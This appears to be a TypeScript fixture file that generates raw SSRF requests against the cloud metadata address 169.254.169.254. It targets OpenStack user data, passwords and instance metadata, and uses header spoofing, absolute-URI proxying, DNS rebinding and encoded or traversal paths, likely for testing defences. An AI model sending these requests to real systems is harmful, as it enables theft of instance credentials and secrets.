/** What do attackers make an application in a guest send that fetches a URL for them? Eight documents in five ways. */

const documents = [
  '/openstack/latest/user_data',
  '/openstack/latest/meta_data.json',
  '/openstack/latest/vendor_data.json',
  '/openstack/latest/password',
  '/latest/user-data',
  '/latest/meta-data/instance-id',
  '/openstack/latest/%75ser%5fdata?url=x',
  '//openstack/./latest/x/../user_data',
]

/** Each makes a whole request from the path of a document. */
const ways: readonly ((path: string) => string)[] = [
  (path) => head(`GET ${path} HTTP/1.1`, 'Host: 169.254.169.254'),
  (path) => head(`GET ${path} HTTP/1.1`, 'Host: 169.254.169.254', 'X-Forwarded-For: 127.0.0.1'),
  (path) => head(`GET http://169.254.169.254${path} HTTP/1.1`, 'Host: app.example'),
  // A name of the attacker's, rebound to the metadata address.
  (path) => head(`GET ${path} HTTP/1.1`, 'Host: 7f000001.a9fea9fe.rbndr.example'),
  (path) => `GET ${path} HTTP/1.0\r\n\r\n`,
]

function head(...lines: readonly string[]): string {
  return [...lines, 'User-Agent: python-requests/2.31.0', 'Connection: close', '', ''].join('\r\n')
}

/** Whole requests. */
export function ssrfRequests(): readonly string[] {
  return documents.flatMap((path) => ways.map((way) => way(path)))
}
